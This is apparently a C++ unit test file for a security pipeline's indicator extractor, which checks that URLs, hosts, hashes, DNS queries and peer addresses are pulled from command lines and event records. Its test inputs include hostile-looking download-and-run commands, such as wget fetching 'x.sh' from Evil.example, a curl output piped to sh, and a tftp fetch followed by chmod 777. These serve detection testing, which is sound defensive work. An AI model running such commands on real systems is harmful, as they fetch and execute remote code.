#include "pipeline_core/intel/observed_value.h"

#include <gtest/gtest.h>

#include "tests/pipeline_core/support.h"

namespace picket {
namespace {

using testing_support::at;
using testing_support::exec;
using testing_support::flow;
using testing_support::kStart;
using testing_support::login;

/// What the observation names, "place kind value" joined by ", "; "cut" at the end if not all was read.
std::string named(const Observation& observation, const TextTable& texts) {
  constexpr const char* kPlaces[] = {"peer", "query", "download", "file"};
  std::vector<ObservedValue> values;
  const bool whole = observed_texts(observation, texts, values);
  std::string out;
  for (const ObservedValue& value : values) {
    if (!out.empty()) out += ", ";
    out += std::string(kPlaces[static_cast<int>(value.place)]) + " ";
    out += value.kind == IndicatorKind::kAddress ? value.address.to_string() : to_text(value.kind, value.text.text);
  }
  return whole ? out : out + " cut";
}
std::string named_by(std::string_view commandline) {
  TextTable texts;
  return named(exec(texts, kStart, commandline), texts);
}

TEST(ObservedValue, finds_urls_and_their_hosts_in_command_lines) {
  EXPECT_EQ(named_by("wget -q http://Evil.example/x.sh -O /tmp/x"), "download evil.example, download evil.example/x.sh");
  EXPECT_EQ(named_by("sh -c 'curl \"https://203.0.113.9:8443/a?b=c&d\"|sh'"), "download 203.0.113.9, download 203.0.113.9:8443/a?b=c&d");
  EXPECT_EQ(named_by("tftp://[2001:db8::1]/arm7&&chmod 777 arm7"), "download 2001:db8::1, download [2001:db8::1]/arm7");
  EXPECT_EQ(named_by("echo ftp://a.example,http://b.example."), "download a.example, download a.example/, download b.example, download b.example/");
  EXPECT_EQ(named_by("x=HTTPS://user:pw@a.example/%61"), "download a.example, download a.example/a");
}

TEST(ObservedValue, leaves_alone_what_fetches_nothing) {
  EXPECT_EQ(named_by("mqtt://broker.example /usr/bin/x"), "");
  EXPECT_EQ(named_by("http:// ://x.example shttp://a.example"), "");
  EXPECT_EQ(named_by("wget http://$HOST/x.sh"), "");
  EXPECT_EQ(named_by(""), "");
}

TEST(ObservedValue, finds_runs_of_hexadecimal_digits_of_the_length_of_a_hash) {
  const std::string md5(32, 'a');
  const std::string sha1(40, 'b');
  const std::string sha256(64, 'C');
  EXPECT_EQ(named_by("/tmp/" + md5 + ".elf -x " + sha1), "file " + md5 + ", file " + sha1);
  EXPECT_EQ(named_by("echo " + md5 + "a g" + md5 + " " + std::string(31, 'a')), "");
  TextTable texts;
  EXPECT_EQ(named(at(kStart, FileRecord{texts.intern("/var/" + sha256), FileOperation::kCreated}), texts),
            "file " + std::string(64, 'c'));
}

TEST(ObservedValue, takes_the_name_of_a_query) {
  TextTable texts;
  EXPECT_EQ(named(at(kStart, DnsRecord{texts.intern("A.Example"), false}), texts), "query A.Example");
}

TEST(ObservedValue, takes_the_other_end_and_its_port_only_where_it_is_a_service) {
  TextTable texts;
  ObservedValue peer;
  ASSERT_TRUE(observed_peer(flow(kStart, "203.0.113.9", 443), peer));
  EXPECT_EQ(peer.address.to_string(), "203.0.113.9");
  EXPECT_EQ(peer.port, 443);
  Observation inbound = flow(kStart, "203.0.113.9", 40'000);
  std::get<NetworkRecord>(inbound.record).direction = Direction::kInbound;
  ASSERT_TRUE(observed_peer(inbound, peer));
  EXPECT_EQ(peer.port, 0);
  ASSERT_TRUE(observed_peer(login(texts, kStart, LoginOperation::kLogin, "203.0.113.8"), peer));
  EXPECT_EQ(peer.address.to_string(), "203.0.113.8");
  EXPECT_FALSE(observed_peer(login(texts, kStart, LoginOperation::kLogin, ""), peer));
  EXPECT_FALSE(observed_peer(exec(texts, kStart, "x"), peer));
}

TEST(ObservedValue, is_bounded) {
  std::string many;
  for (int i = 0; i < 20; ++i) many += "http://h" + std::to_string(i) + ".example/ ";
  const std::string read = named_by(many);
  EXPECT_TRUE(read.ends_with("download h7.example, download h7.example/ cut")) << read;
  EXPECT_EQ(named_by(std::string(kMaxScannedText, 'x') + " http://late.example/"), " cut");
  EXPECT_EQ(named_by("http://early.example/ " + std::string(kMaxScannedText, 'x')), "download early.example, download early.example/ cut");
}

}  // namespace
}  // namespace picket
